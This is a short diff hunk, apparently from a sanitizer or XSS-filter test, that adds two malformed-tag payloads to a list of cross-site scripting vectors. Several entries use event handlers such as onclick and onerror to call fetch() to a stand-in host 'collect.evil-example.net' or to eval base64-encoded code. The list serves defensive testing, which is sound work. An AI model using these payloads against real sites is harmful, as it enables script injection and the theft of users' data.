@@ -258,6 +258,8 @@ EVIL = "https://collect.evil-example.net"
         f"<x-card\nonpointerenter = fetch('{EVIL}/?d=1')>",
         f'<b title=a"b onclick=fetch("{EVIL}/?d=1")>',
         f"<em <b onclick=fetch('{EVIL}/?d=1')>",
+        f"<b /< onclick=fetch('{EVIL}/?d=1')>",
+        f"<b /</i onclick=fetch('{EVIL}/?d=1')>",
         "<details open ontoggle=\"self['fe'+'tch'](atob('Ly9ldmls'))\">",
         "<img src=x onerror=\"eval(atob('ZmV0Y2go'))\">",
         "<img\nonerror=eval(name)\nsrc=x>",
